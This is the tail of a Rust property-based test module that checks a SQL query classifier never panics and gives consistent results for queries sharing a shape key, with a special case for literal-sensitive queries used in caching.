        #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

        #[test]
        fn classifying_never_panics(s in sqlish()) {
            let _ = classify(&s);
        }

        #[test]
        fn classifying_any_text_never_panics(chars in prop::collection::vec(any::<char>(), 0..120)) {
            let s: String = chars.into_iter().collect();
            let _ = classify(&s);
        }

        #[test]
        fn one_shape_one_classification_unless_a_literal_matters(
            t in prop::sample::select(TEMPLATES.to_vec()),
            pairs in prop::collection::vec(literal_pair(), 3),
        ) {
            let a: Vec<&str> = pairs.iter().map(|p| p.0).collect();
            let b: Vec<&str> = pairs.iter().map(|p| p.1).collect();
            let fill = |v: &[&str]| {
                let mut out = t.to_string();
                for l in v {
                    out = out.replacen("{}", l, 1);
                }
                out
            };
            let (x, y) = (fill(&a), fill(&b));
            let key = |s: &str| {
                let mut k = String::new();
                crate::sql::shape_key(s, &mut k);
                k
            };
            prop_assume!(key(&x) == key(&y));
            let (cx, cy) = (classify(&x), classify(&y));
            if !cx.literal_sensitive && !cy.literal_sensitive {
                prop_assert_eq!(cx, cy, "{} vs {}", x, y);
            } else {
                // The cache keys a literal-sensitive shape by text; both must say so.
                prop_assert!(cx.literal_sensitive && cy.literal_sensitive, "{} vs {}", x, y);
            }
        }
    }
}
